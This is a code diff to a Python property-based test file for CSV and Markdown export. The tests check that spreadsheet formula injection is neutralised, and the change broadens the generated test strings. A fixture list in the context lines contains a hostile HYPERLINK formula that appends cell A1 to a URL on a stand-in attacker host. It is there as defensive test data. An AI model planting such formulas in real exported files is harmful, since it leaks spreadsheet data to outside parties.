@@ -23,6 +23,7 @@ from blogdb.cli.options import RowOptions
 
 from ..conftest import Run
 from ..rounds import combined, rounds
+from ..texts import ANY
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example?"&A1,"click")',
@@ -44,7 +45,7 @@ HARMLESS = ["a=1", "1+1", " =1", "", "'=1", "-1", "+49", "-1.5", "x\n=1", "#REF"
 markdown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
 
 texts = st.one_of(
-    st.text(max_size=20),
+    st.text(ANY, max_size=20),
     st.text(alphabet="\\|`*_~[]()<>&!#-:=\"'\n a1", max_size=20),
     st.sampled_from(
         [
@@ -137,7 +138,9 @@ def test_csv_keeps_what_is_harmless(
 
 
 @settings(max_examples=rounds(100, 300), deadline=None, database=None)
-@given(st.lists(st.tuples(st.text(max_size=9), st.text(max_size=9)), max_size=4))
+@given(
+    st.lists(st.tuples(st.text(ANY, max_size=9), st.text(ANY, max_size=9)), max_size=4)
+)
 def test_no_cell_of_csv_runs(rows: list[tuple[str, str]]) -> None:
     """Nothing but numbers begins as a formula does; no text gets more than a mark."""
     told = written(rows, ["a", "b"], form="csv")
